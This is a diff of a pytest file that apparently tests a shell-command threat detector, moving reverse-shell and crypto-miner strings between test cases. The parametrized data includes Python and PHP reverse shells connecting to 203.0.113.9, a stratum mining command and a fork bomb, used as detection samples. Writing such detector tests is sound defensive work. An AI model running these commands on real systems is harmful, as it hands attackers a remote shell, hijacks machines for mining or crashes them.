@@ -250,6 +250,9 @@ def test_a_shell_that_runs_a_script_takes_no_commands_from_its_socket(arguments:
         'php -r \'$s=fsockopen("203.0.113.9",443);exec("/bin/sh -i <&3 >&3");\'',
         "./m -o stratum+tcp://203.0.113.9:3333",
         ":(){ :|:& };:",
+        'python3 -c \'import socket,subprocess; s=socket.socket(); s.connect(("203.0.113.9",80)); subprocess.call(["sh"])\'',
+        'php -r \'$s=fsockopen("203.0.113.9",80); proc_open("sh", [], $p);\'',
+        "server --algo rx/0 -o pool",
     ],
 )
 def test_what_nothing_normal_is_told_is_known_at_once(words: str) -> None:
@@ -447,18 +450,6 @@ def test_a_person_who_resolves_names_looks_around() -> None:
 )
 def test_what_services_are_told_is_not_taken_for_more(words: str, technique: str) -> None:
     assert technique not in exec_of("/usr/bin/dash", "sh", "-c", words, parent="/usr/bin/bash").techniques
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        'python3 -c \'import socket,subprocess; s=socket.socket(); s.connect(("203.0.113.9",80)); subprocess.call(["sh"])\'',
-        'php -r \'$s=fsockopen("203.0.113.9",80); proc_open("sh", [], $p);\'',
-        "server --algo rx/0 -o pool",
-    ],
-)
-def test_code_that_gives_a_shell_away_is_known_bad(words: str) -> None:
-    assert exec_of("/usr/bin/dash", "sh", "-c", words).level is Level.KNOWN_BAD
 
 
 @pytest.mark.parametrize(
